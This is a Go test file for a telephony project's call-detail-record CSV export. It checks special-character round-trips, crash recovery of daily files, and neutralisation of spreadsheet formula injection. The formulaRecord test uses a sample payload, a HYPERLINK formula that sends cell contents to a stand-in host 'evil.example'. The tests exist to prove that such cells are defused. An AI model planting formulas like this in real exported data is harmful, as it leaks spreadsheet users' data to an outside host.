package cdr

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"io"
	"os"
	"path/filepath"
	"reflect"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/tollgate/tollgate/internal/testenv"
)

// readCSV parses CSV written by Export or CSVFiles back into records, with
// encoding/csv, checking the header.
func readCSV(t *testing.T, r io.Reader) []Record {
	t.Helper()
	cr := csv.NewReader(r)
	cr.FieldsPerRecord = len(columns)
	rows, err := cr.ReadAll()
	if err != nil {
		t.Fatalf("not valid CSV: %v", err)
	}
	if len(rows) == 0 || !reflect.DeepEqual(rows[0], columns) {
		t.Fatalf("header %v", rows[:min(1, len(rows))])
	}
	var out []Record
	for _, row := range rows[1:] {
		v := map[string]string{}
		for i, c := range columns {
			v[c] = row[i]
		}
		num := func(c string) int64 {
			n, err := strconv.ParseInt(v[c], 10, 64)
			if err != nil {
				t.Fatalf("%s: %v", c, err)
			}
			return n
		}
		count := func(c string) Maybe[uint64] {
			if v[c] == "" {
				return Maybe[uint64]{}
			}
			return Known(uint64(num(c)))
		}
		micros := func(c string) Maybe[time.Duration] {
			if v[c] == "" {
				return Maybe[time.Duration]{}
			}
			return KnownDuration(time.Duration(num(c)) * time.Microsecond)
		}
		score := func(c string) Maybe[float64] {
			if v[c] == "" {
				return Maybe[float64]{}
			}
			f, err := strconv.ParseFloat(v[c], 64)
			if err != nil {
				t.Fatalf("%s: %v", c, err)
			}
			return Maybe[float64]{V: f, Known: true}
		}
		tm := func(c string) time.Time {
			if v[c] == "" {
				return time.Time{}
			}
			x, err := time.Parse(csvTime, v[c])
			if err != nil {
				t.Fatalf("%s: %v", c, err)
			}
			return x.UTC()
		}
		rec := Record{
			ID: v["id"], ConfID: v["conf_id"], CallIDA: v["call_id_a"], CallIDB: v["call_id_b"],
			CallerNumber: v["caller_number"], CallerName: v["caller_name"], CalledReceived: v["called_received"], CalledSent: v["called_sent"],
			SourceIP: v["source_ip"], SourcePort: int(num("source_port")), Account: v["account"], Route: v["route"], Gateway: v["gateway"],
			SetupTime: tm("setup_time"), RingingTime: tm("ringing_time"), ConnectTime: tm("connect_time"), DisconnectTime: tm("disconnect_time"),
			Duration: time.Duration(num("duration_ms")) * time.Millisecond, BilledSeconds: int(num("billed_seconds")),
			PostDialDelay: time.Duration(num("post_dial_delay_ms")) * time.Millisecond,
			SIPCode:       int(num("sip_code")), SIPReason: v["sip_reason"], Q850Cause: int(num("q850_cause")),
			ReleasedBy: v["released_by"], DisconnectReason: v["disconnect_reason"],
			CreditGranted: time.Duration(num("credit_granted_ms")) * time.Millisecond,
			CodecA:        v["codec_a"], CodecB: v["codec_b"], MediaRelay: v["media_relay"],
			RTPAtoB: RTPStats{Packets: count("rtp_a_to_b_packets"), Bytes: count("rtp_a_to_b_bytes"), Lost: count("rtp_a_to_b_lost"), Jitter: micros("rtp_a_to_b_jitter_us"),
				RTT: micros("rtp_a_to_b_rtt_us"), MOS: score("rtp_a_to_b_mos")},
			RTPBtoA: RTPStats{Packets: count("rtp_b_to_a_packets"), Bytes: count("rtp_b_to_a_bytes"), Lost: count("rtp_b_to_a_lost"), Jitter: micros("rtp_b_to_a_jitter_us"),
				RTT: micros("rtp_b_to_a_rtt_us"), MOS: score("rtp_b_to_a_mos")},
			UserAgentA: v["user_agent_a"], UserAgentB: v["user_agent_b"],
		}
		if v["attempts"] != "[]" {
			if err := json.Unmarshal([]byte(v["attempts"]), &rec.Attempts); err != nil {
				t.Fatalf("attempts: %v", err)
			}
		}
		if int(num("attempt_count")) != len(rec.Attempts) {
			t.Fatalf("attempt_count %s for %d attempts", v["attempt_count"], len(rec.Attempts))
		}
		out = append(out, rec)
	}
	return out
}

// specialRecords carry everything CSV must quote or keep intact. (A bare
// "\r\n" inside a field is not among them: encoding/csv's reader turns it
// into "\n" by design.)
func specialRecords() []Record {
	a, b := fullRecord(1), fullRecord(2)
	a.CallerName = `Smith, "Jo" ` + "\nline two, 日本語 ✓"
	a.UserAgentA = `"quoted at start`
	a.SIPReason = "a,b,,c"
	b.CallerName = ""
	b.Attempts = nil
	b.RingingTime, b.ConnectTime = time.Time{}, time.Time{}
	b.CalledSent = "   leading and trailing spaces   "
	return []Record{a, b}
}

func TestExportRoundTripsSpecialCharacters(t *testing.T) {
	t.Parallel()
	db := migratedDB(t, testenv.SharedPostgres(t).NewDatabase(t))
	want := specialRecords()
	if err := NewPGWriter(db).Write(context.Background(), want); err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	f := Filter{From: want[0].SetupTime, To: want[1].SetupTime.Add(time.Millisecond)}
	if err := Export(context.Background(), db, f, &buf); err != nil {
		t.Fatal(err)
	}
	if !bytes.Contains(buf.Bytes(), []byte("\r\n")) {
		t.Error("rows not CRLF-terminated (RFC 4180)")
	}
	got := readCSV(t, &buf)
	if !reflect.DeepEqual(got, want) {
		t.Fatalf("export changed records:\n got %+v\nwant %+v", got, want)
	}
}

func TestCSVFilesDailyIdempotentAndTornTail(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	c, err := OpenCSVFiles(dir, nil)
	if err != nil {
		t.Fatal(err)
	}
	recs := specialRecords()
	next := fullRecord(3)
	next.DisconnectTime = next.DisconnectTime.Add(24 * time.Hour) // the next UTC day
	ctx := context.Background()
	if err := c.Write(ctx, append(recs, next)); err != nil {
		t.Fatal(err)
	}
	// A replay of the same batch (crash before the spool commit) adds nothing.
	if err := c.Write(ctx, recs); err != nil {
		t.Fatal(err)
	}
	c.Close()

	day1 := filepath.Join(dir, "cdr-2026-11-22.csv")
	day2 := filepath.Join(dir, "cdr-2026-11-23.csv")
	read := func(path string) []Record {
		f, err := os.Open(path)
		if err != nil {
			t.Fatal(err)
		}
		defer f.Close()
		return readCSV(t, f)
	}
	if got := read(day1); !reflect.DeepEqual(got, recs) {
		t.Fatalf("day file:\n got %+v\nwant %+v", got, recs)
	}
	if got := read(day2); len(got) != 1 || got[0].ID != next.ID {
		t.Fatalf("next day file holds %v", ids(got))
	}

	// A crash mid-row leaves half a quoted field; reopening cuts it off, and
	// a replay after reopening is still recognised.
	f, _ := os.OpenFile(day1, os.O_APPEND|os.O_WRONLY, 0)
	f.WriteString(testID(9) + `,"half a quoted`)
	f.Close()
	c2, err := OpenCSVFiles(dir, nil)
	if err != nil {
		t.Fatal(err)
	}
	defer c2.Close()
	more := fullRecord(4)
	if err := c2.Write(ctx, append(recs, more)); err != nil {
		t.Fatal(err)
	}
	if got := read(day1); !reflect.DeepEqual(got, append(recs, more)) {
		t.Fatalf("after torn tail and replay: %v", ids(got))
	}
}

// formulaRecord carries, in fields a caller controls, every start of a cell
// that a spreadsheet would run as a formula.
func formulaRecord() (Record, map[string]string) {
	r := fullRecord(5)
	r.CallerNumber = "=2+5"
	r.CallerName = `=HYPERLINK("http://evil.example/?"&A1,"click")`
	r.CalledReceived = "+4930123456"
	r.CalledSent = "-1+1"
	r.UserAgentA = "@SUM(1,1)"
	r.UserAgentB = "\t=1"
	r.RADIUS.ReturnCode = -1 // a number, not text: stays as it is
	return r, map[string]string{
		"caller_number": "'=2+5", "caller_name": `'=HYPERLINK("http://evil.example/?"&A1,"click")`,
		"called_received": "'+4930123456", "called_sent": "'-1+1", "user_agent_a": "'@SUM(1,1)",
		"user_agent_b": "'\t=1",
		"account":      "acct-7", "source_ip": "192.0.2.17", "radius_return_code": "-1", // untouched
	}
}

// checkNeutralised reads CSV raw and checks the cells of want's columns.
func checkNeutralised(t *testing.T, r io.Reader, want map[string]string) {
	t.Helper()
	rows, err := csv.NewReader(r).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("%d rows, %v", len(rows), err)
	}
	for i, c := range rows[0] {
		if w, ok := want[c]; ok && rows[1][i] != w {
			t.Errorf("%s: cell %q, want %q", c, rows[1][i], w)
		}
	}
}

// csvField is s as encoding/csv writes one field (UseCRLF), in a row alone.
func csvField(s string) string {
	var buf bytes.Buffer
	w := csv.NewWriter(&buf)
	w.UseCRLF = true
	w.Write([]string{s}) //nolint:errcheck // a bytes.Buffer does not fail
	w.Flush()
	return strings.TrimSuffix(buf.String(), "\r\n")
}

// TestCSVCell covers CR too, which encoding/csv's reader drops when the
// files are read back.
func TestCSVCell(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{
		"=1": "'=1", "+1": "'+1", "-1": "'-1", "@a": "'@a", "\tx": "'\tx", "\rx": "'\rx",
		"": "", "4930": "4930", "a=1": "a=1", " =1": " =1", "'=1": "'=1",
	} {
		if got, want := string(appendCSVField(nil, in, textCell)), csvField(want); got != want {
			t.Errorf("text cell %q: %q, want %q", in, got, want)
		}
	}
}

func TestCSVNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	rec, want := formulaRecord()
	t.Run("export", func(t *testing.T) {
		db := migratedDB(t, testenv.SharedPostgres(t).NewDatabase(t))
		if err := NewPGWriter(db).Write(context.Background(), []Record{rec}); err != nil {
			t.Fatal(err)
		}
		var buf bytes.Buffer
		if err := Export(context.Background(), db, Filter{}, &buf); err != nil {
			t.Fatal(err)
		}
		checkNeutralised(t, &buf, want)
	})
	t.Run("daily files", func(t *testing.T) {
		dir := t.TempDir()
		c, err := OpenCSVFiles(dir, nil)
		if err != nil {
			t.Fatal(err)
		}
		if err := c.Write(context.Background(), []Record{rec}); err != nil {
			t.Fatal(err)
		}
		c.Close()
		f, err := os.Open(filepath.Join(dir, "cdr-2026-11-22.csv"))
		if err != nil {
			t.Fatal(err)
		}
		defer f.Close()
		checkNeutralised(t, f, want)
	})
}

// TestUnknownCounters: an RTP figure nobody knows is an empty CSV cell and
// null in JSON (the API, the spool), 0 stays 0, and both read back as they
// were.
func TestUnknownCounters(t *testing.T) {
	t.Parallel()
	rec := Record{ID: testID(9), RTPAtoB: RTPStats{Packets: Known(0), Lost: Known(3)}}
	row := csvCells(t, &rec)
	cell := func(name string) string {
		for i, c := range columns {
			if c == name {
				return row[i]
			}
		}
		t.Fatalf("no column %s", name)
		return ""
	}
	if cell("rtp_a_to_b_packets") != "0" || cell("rtp_a_to_b_bytes") != "" || cell("rtp_a_to_b_lost") != "3" ||
		cell("rtp_a_to_b_jitter_us") != "" || cell("rtp_b_to_a_packets") != "" {
		t.Errorf("CSV cells %q", row[31:39])
	}
	b, err := json.Marshal(rec.RTPAtoB)
	if err != nil || string(b) != `{"packets":0,"bytes":null,"lost":3,"jitter":null,"rtt":null,"mos":null}` {
		t.Fatalf("JSON %s %v", b, err)
	}
	var back RTPStats
	if err := json.Unmarshal(b, &back); err != nil || back != rec.RTPAtoB {
		t.Fatalf("JSON back %+v %v", back, err)
	}
}

// BenchmarkCSVFilesWrite is the shipper's write of the CSV files with no
// database configured, in batches of 100 records (a call rate's worth of
// its 100 ms linger), per record: what it allocates for each is garbage
// the switch's collector pays for.
func BenchmarkCSVFilesWrite(b *testing.B) {
	c, err := OpenCSVFiles(b.TempDir(), nil)
	if err != nil {
		b.Fatal(err)
	}
	defer c.Close()
	recs := make([]Record, b.N)
	for i := range recs {
		recs[i] = fullRecord(i)
	}
	ctx := context.Background()
	b.ReportAllocs()
	b.ResetTimer()
	for len(recs) > 0 {
		n := min(100, len(recs))
		if err := c.Write(ctx, recs[:n]); err != nil {
			b.Fatal(err)
		}
		recs = recs[n:]
	}
}
